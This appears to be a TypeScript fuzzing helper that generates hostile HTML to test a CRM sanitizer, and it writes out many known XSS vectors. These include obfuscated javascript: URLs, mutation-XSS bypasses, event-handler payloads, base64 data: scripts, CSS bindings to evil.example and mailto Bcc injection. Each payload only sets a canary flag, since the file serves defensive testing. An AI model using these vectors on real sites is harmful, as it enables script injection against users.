/**
 * The generator of hostile CRM HTML (see crm-html.reliability.test.ts): documents built from real
 * attack shapes (disallowed and dangerous elements, event handlers, style, URL attributes with
 * script schemes in many spellings, mutation-XSS shapes and known vectors), whose payloads set the
 * canary when they run.
 */
import fc from 'fast-check';

/** A payload sets this flag when it runs. */
export const CANARY = '__caPwned';
export const PAYLOAD = `window.${ CANARY }=1`;

declare global {
	interface Window {
		[ CANARY ]?: number;
	}
}

const TAG = fc.constantFrom(
	// allowed
	'p',
	'span',
	'a',
	'b',
	'strong',
	'em',
	'ul',
	'li',
	'h3',
	'br',
	// dangerous or not allowed
	'script',
	'style',
	'iframe',
	'frame',
	'object',
	'embed',
	'form',
	'input',
	'button',
	'textarea',
	'select',
	'option',
	'img',
	'video',
	'audio',
	'source',
	'svg',
	'math',
	'mtext',
	'mglyph',
	'malignmark',
	'foreignObject',
	'animate',
	'set',
	'use',
	'image',
	'base',
	'meta',
	'link',
	'template',
	'noscript',
	'noembed',
	'noframes',
	'xmp',
	'plaintext',
	'title',
	'table',
	'details',
	'dialog',
	'marquee',
	'isindex',
	'applet',
	'body',
	'html',
	'head',
	'slot',
	'portal'
);

const ATTRIBUTE_NAME = fc.constantFrom(
	'onclick',
	'onerror',
	'onload',
	'onmouseover',
	'onfocus',
	'onanimationstart',
	'ontoggle',
	'OnClIcK',
	'onbegin',
	'style',
	'href',
	'HREF',
	'src',
	'srcdoc',
	'srcset',
	'action',
	'formaction',
	'xlink:href',
	'data',
	'background',
	'poster',
	'ping',
	'target',
	'rel',
	'title',
	'id',
	'name',
	'class',
	'is',
	'autofocus',
	'open',
	'attributeName',
	'values',
	'to',
	'from',
	'xmlns',
	'http-equiv',
	'content'
);

const SCRIPT_URL = fc.constantFrom(
	`javascript:${ PAYLOAD }`,
	`JaVaScRiPt:${ PAYLOAD }`,
	` javascript:${ PAYLOAD }`,
	`java\tscript:${ PAYLOAD }`,
	`java\nscript:${ PAYLOAD }`,
	`java&#x09;script:${ PAYLOAD }`,
	`&#106;avascript:${ PAYLOAD }`,
	`&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${ PAYLOAD }`,
	`javascript&colon;${ PAYLOAD }`,
	`\u0000javascript:${ PAYLOAD }`,
	`data:text/html,<script>${ PAYLOAD }</script>`,
	'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19jYVB3bmVkPTE8L3NjcmlwdD4=',
	`vbscript:${ PAYLOAD }`,
	'//evil.example/x',
	'http://evil.example/x',
	'https://user:pw@evil.example/',
	'https://files.example/doc.pdf',
	'http://localhost:8081/media/1',
	'mailto:info@broker.example',
	'tel:+49301234',
	'mailto:info@broker.example?bcc=all@evil.example',
	'MAILTO:info@broker.example%0d%0aBcc:all@evil.example',
	'mailto:info@broker.example,all@evil.example',
	'tel:0301234;ext=99',
	'tel:*21*0900123456#',
	`expression(${ PAYLOAD })`,
	`url(javascript:${ PAYLOAD })`,
	`background:url("javascript:${ PAYLOAD }")`,
	`-moz-binding:url(https://evil.example/x.xml#x)`,
	PAYLOAD,
	`alert(1)//"><img src=x onerror=${ PAYLOAD }>`
);

const ATTRIBUTE_VALUE = fc.oneof(
	{ weight: 3, arbitrary: SCRIPT_URL },
	{ weight: 1, arbitrary: fc.string( { maxLength: 12 } ) }
);

const QUOTE = fc.constantFrom( '"', "'", '', '`' );

const ATTRIBUTE = fc
	.tuple( ATTRIBUTE_NAME, ATTRIBUTE_VALUE, QUOTE )
	.map( ( [ name, value, quote ] ) => {
		const escaped =
			quote === '"'
				? value.replace( /"/g, '&quot;' )
				: value.replace( /[\s>]/g, '' );
		return ` ${ name }=${ quote }${ escaped }${ quote }`;
	} );

/** Known vectors, most of them mutation XSS against HTML sanitizers. */
const KNOWN_VECTOR = fc.constantFrom(
	`<img src=x onerror="${ PAYLOAD }">`,
	`<svg onload="${ PAYLOAD }">`,
	`<svg><script>${ PAYLOAD }</script></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror="${ PAYLOAD }">`,
	`<svg></p><style><a id="</style><img src=1 onerror=${ PAYLOAD }>">`,
	`<math><mi><table><mglyph><svg><mtext><textarea><a title="</textarea><img src onerror=${ PAYLOAD }>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ PAYLOAD }>`,
	`<noscript><p title="</noscript><img src=x onerror=${ PAYLOAD }>">`,
	`<xmp><p title="</xmp><img src=x onerror=${ PAYLOAD }>">`,
	`<noembed><img title="</noembed><img src onerror=${ PAYLOAD }>"></noembed>`,
	`<template><img src=x onerror=${ PAYLOAD }></template>`,
	`<a href="javascript:${ PAYLOAD }">x</a>`,
	`<a href="jav&#x09;ascript:${ PAYLOAD }">x</a>`,
	`<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${ PAYLOAD }">x</a>`,
	`<a href=" &#14;  javascript:${ PAYLOAD }">x</a>`,
	`<a href="data:text/html,%3Cscript%3E${ PAYLOAD }%3C/script%3E">x</a>`,
	`<a xlink:href="javascript:${ PAYLOAD }">x</a>`,
	`<svg><a xlink:href="javascript:${ PAYLOAD }"><text>x</text></a></svg>`,
	`<svg><animate onbegin="${ PAYLOAD }" attributeName=x dur=1s>`,
	`<svg><set attributeName="href" to="javascript:${ PAYLOAD }"/></svg>`,
	`<details open ontoggle="${ PAYLOAD }">`,
	`<iframe srcdoc="<script>${ PAYLOAD }</script>"></iframe>`,
	`<iframe src="javascript:${ PAYLOAD }"></iframe>`,
	`<object data="javascript:${ PAYLOAD }"></object>`,
	`<embed src="data:text/html,<script>${ PAYLOAD }</script>">`,
	`<form action="javascript:${ PAYLOAD }"><button>x</button></form>`,
	`<button formaction="javascript:${ PAYLOAD }">x</button>`,
	`<input autofocus onfocus="${ PAYLOAD }">`,
	`<base href="javascript:${ PAYLOAD }//">`,
	`<meta http-equiv="refresh" content="0;url=javascript:${ PAYLOAD }">`,
	`<link rel="stylesheet" href="javascript:${ PAYLOAD }">`,
	`<style>@import "javascript:${ PAYLOAD }";</style>`,
	`<p style="background:url(javascript:${ PAYLOAD })">x</p>`,
	`<span style="x:expression(${ PAYLOAD })">x</span>`,
	`<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>`,
	`<marquee onstart="${ PAYLOAD }">x</marquee>`,
	`<video><source onerror="${ PAYLOAD }"></video>`,
	`<body onload="${ PAYLOAD }">`,
	`<!--<img src="--><img src=x onerror=${ PAYLOAD }//">`,
	`<![CDATA[<img src=x onerror=${ PAYLOAD }>]]>`,
	`<a id=x tabindex=1 onfocusin=${ PAYLOAD }></a>`,
	`<p/onclick=${ PAYLOAD }>x</p>`,
	`<p onclick\u000c=${ PAYLOAD }>x</p>`,
	`<scr<script>ipt>${ PAYLOAD }</scr</script>ipt>`,
	`<a href="https://files.example/" onmouseover="${ PAYLOAD }">ok</a>`,
	`<a href="javas\u0000cript:${ PAYLOAD }">x</a>`,
	`<a href="\u2028javascript:${ PAYLOAD }">x</a>`,
	`<plaintext><img src=x onerror=${ PAYLOAD }>`,
	`<isindex action="javascript:${ PAYLOAD }" type=image>`,
	`<img src="x" id="cookie" name="getElementById">`,
	`<a is="x" href="https://files.example/" target="_self" rel="opener">x</a>`
);

const TEXT = fc.oneof(
	fc.string( { maxLength: 20 } ),
	fc.constantFrom(
		'&lt;script&gt;',
		'&amp;lt;img src=x onerror=1&amp;gt;',
		'<',
		'>',
		'"',
		"'",
		'</',
		'<!--',
		'-->',
		'<!',
		'<?xml ?>',
		'\u202eRTL',
		'שלום',
		'ÄÖÜß'
	)
);

const LEAF = fc.oneof(
	{ weight: 2, arbitrary: KNOWN_VECTOR },
	{ weight: 2, arbitrary: TEXT }
);

/** A hostile fragment: elements with hostile attributes around more fragments, up to 3 deep. */
const { fragment: FRAGMENT } = fc.letrec< { fragment: string } >( ( tie ) => ( {
	fragment: fc.oneof(
		{ depthSize: 'small', withCrossShrink: true },
		LEAF,
		fc
			.tuple(
				TAG,
				fc.array( ATTRIBUTE, { maxLength: 4 } ),
				fc.array( tie( 'fragment' ), { maxLength: 3 } ),
				fc.constantFrom( 'close', 'open', 'self', 'wrong' )
			)
			.map( ( [ tag, attributes, children, ending ] ) => {
				const open = `<${ tag }${ attributes.join( '' ) }`;
				const inner = children.join( '' );
				if ( ending === 'self' ) {
					return `${ open }/>${ inner }`;
				}
				if ( ending === 'open' ) {
					return `${ open }>${ inner }`;
				}
				if ( ending === 'wrong' ) {
					return `${ open }>${ inner }</p></${ tag }`;
				}
				return `${ open }>${ inner }</${ tag }>`;
			} )
	),
} ) );

/** A hostile document: one to six fragments. */
export const DOCUMENT = fc
	.array( FRAGMENT, { minLength: 1, maxLength: 6 } )
	.map( ( parts ) => parts.join( '' ) );
